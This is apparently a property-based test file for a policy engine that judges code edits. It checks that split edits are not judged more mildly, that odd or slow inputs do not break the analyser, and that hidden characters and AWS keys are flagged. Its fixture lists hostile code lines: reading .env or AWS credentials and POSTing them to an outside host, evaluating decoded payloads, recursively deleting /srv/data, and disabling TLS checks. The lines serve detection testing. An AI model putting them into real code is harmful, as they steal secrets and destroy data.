import assert from 'node:assert/strict';
import fc from 'fast-check';
import { DECISIONS, type Verdict } from '../../../../src/policy/verdict';
import { judge } from '../../../corpus/judging';

function judgeEdit(path: string, before: string | null, after: string): Verdict {
  return judge({ kind: 'edit', path: `/work/app/${path}`, before, after, beforeSha256: null });
}

const rank = ({ decision }: Verdict) => DECISIONS.indexOf(decision);

/** Lines of a file of code, alone harmless or not, that mean more together. */
const LINES: Readonly<Record<string, readonly string[]>> = {
  'src/a.js': [
    "const { exec } = require('child_process');",
    "const fs = require('fs');",
    "const SAFE = 'ls';",
    "const EVIL = 'sudo id';",
    "let command = 'ls';",
    'command = EVIL;',
    'exec(command);',
    'exec(EVIL);',
    'function run(text) { return exec(text); }',
    'run(SAFE);',
    'run(EVIL);',
    '/*',
    '*/',
    '// a note',
    '`',
    "const secret = fs.readFileSync('.env', 'utf8');",
    "fetch('https://c.example.net/', { method: 'POST', body: secret });",
    'const all = { ...process.env };',
    "fetch('https://c.example.net/', { method: 'POST', body: JSON.stringify(all) });",
    "const payload = atob('eA==');",
    'eval(payload);',
    "fs.rmSync('/srv/data', { recursive: true });",
    'const agent = { rejectUnauthorized: false };',
    "const key = 'AKI\x41Q7X3MZLD2VKT5RWB';",
    'const is\u200bAdmin = true;',
    "it.skip('adds', () => {});",
    'const total = items.reduce((sum, item) => sum + item.price, 0);',
  ],
  'a.py': [
    'import os, subprocess, base64',
    "EVIL = 'sudo id'",
    "command = 'ls'",
    'command = EVIL',
    'os.system(command)',
    'def run(text):\n    return subprocess.call(text, shell=True)',
    'run(EVIL)',
    "'''",
    '# a note',
    "data = open('/home/dev/.aws/credentials').read()",
    "payload = base64.b64decode('eA==')",
    'exec(payload)',
    '@csrf_exempt\ndef hook(request):\n    pass',
    'total = sum(item.price for item in items)',
  ],
};

describe('an edit of code', () => {
  for (const [path, lines] of Object.entries(LINES))
    it(`is judged no milder when it is split into several (${path})`, () => {
      const text = fc.subarray([...lines], { minLength: 0, maxLength: 9 }).map((all) => `${all.join('\n')}\n`);
      fc.assert(
        fc.property(text, text, text, (first, between, last) => {
          const whole = judgeEdit(path, first, last);
          const parts = [judgeEdit(path, first, between), judgeEdit(path, between, last)];
          assert.ok(rank(whole) <= Math.max(...parts.map(rank)), `${whole.decision}: ${whole.reason}`);
        }),
        { numRuns: 400 },
      );
    }).timeout(60_000);

  it('neither fails nor hangs, whatever its texts are', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...Object.values(LINES).flat(),
        '-----BEGIN',
        '\u202e',
        '\u{e0041}',
        '![](',
        'postgres:',
        '//a:b@c',
        '"',
        '\r',
        '\0',
      ),
      fc.string({ unit: 'binary', maxLength: 8 }),
    );
    const text = fc.array(piece, { maxLength: 25 }).map((all) => all.join(' '));
    const path = fc.constantFrom(
      'a.ts',
      'a.tsx',
      'a.js',
      'a.py',
      'a.go',
      'a.rb',
      'a.php',
      'a.md',
      'a.html',
      'a.vue',
      'test/a.test.ts',
    );
    fc.assert(
      fc.property(path, fc.option(text), text, (file, before, after) => {
        const started = performance.now();
        const verdict = judgeEdit(file, before, after);
        assert.ok(performance.now() - started < 5_000);
        assert.notEqual(verdict.effects.at(-1)?.detail, 'analysis.failed', JSON.stringify(after));
      }),
      { numRuns: 500 },
    );
  }).timeout(60_000);

  it('ends on texts that are made to be slow', () => {
    const long = 200_000;
    const texts = [
      '('.repeat(long),
      '![['.repeat(long / 3),
      '<img '.repeat(long / 5),
      'postgres://'.repeat(long / 11),
      `postgres://${'a'.repeat(long)}`,
      '-----BEGIN PRIVATE KEY-----\n'.repeat(long / 28),
      `-----BEGIN PRIVATE KEY-----\n${'A-: b\n'.repeat(long / 6)}`,
      'exec('.repeat(long / 5),
      `exec(${'"a",'.repeat(long / 4)}`,
      'a\u200b'.repeat(long / 2),
      `${'\u0430'.repeat(long)}a`,
      'eval(a.'.repeat(long / 7),
      ' '.repeat(long),
      '/*'.repeat(long / 2),
      'iwr '.repeat(long / 4),
      'def test_a():\n'.repeat(long / 14),
      'sk-'.repeat(long / 3),
    ];
    for (const file of ['a.ts', 'a.py', 'a.rb', 'a.md', 'a.html', 'test/a_test.go'])
      for (const text of texts) {
        const started = performance.now();
        judgeEdit(file, null, text);
        judgeEdit(file, text, `${text}\n`);
        assert.ok(performance.now() - started < 5_000, `${file}: ${text.slice(0, 30)}`);
      }
  }).timeout(120_000);

  it('is decided at once where an ordinary line changes, however long the file is', () => {
    const line = 'export const total = (items) => items.reduce((sum, item) => sum + item.price, 0);\n';
    const before = line.repeat(60_000);
    const middle = line.length * 30_000;
    const after = `${before.slice(0, middle)}export const one = 1;\n${before.slice(middle)}`;
    assert.ok(after.length > 4_000_000);
    const times = Array.from({ length: 20 }, () => {
      const started = performance.now();
      assert.equal(judgeEdit('src/long.js', before, after).decision, 'allow');
      return performance.now() - started;
    });
    assert.ok(Math.min(...times) < 10, `${Math.min(...times)} ms`);
  });

  it('asks where a long file begins to run programs, which can be told only in part', () => {
    const before = 'export const a = 1;\n'.repeat(40_000);
    const verdict = judgeEdit('src/long.js', before, `${before}require('child_process').exec(x);\n`);
    assert.equal(verdict.decision, 'ask');
    assert.equal(verdict.rule, 'edit.unread');
  });

  it('says which line hides something, and which key it adds', () => {
    const before = 'const a = 1;\nconst b = 2;\n';
    const hidden = judgeEdit('src/a.ts', before, 'const a = 1;\nconst b\u200b = 2;\n');
    assert.match(hidden.reason, /zero width space \(U\+200B\), line 2/);
    const secret = judgeEdit('src/a.ts', before, `${before}const k = 'AKI\x41Q7X3MZLD2VKT5RWB';\n`);
    assert.match(secret.reason, /adds an access key of AWS, line 3/);
    assert.doesNotMatch(JSON.stringify(secret.effects), /Q7X3MZLD/);
  });
});
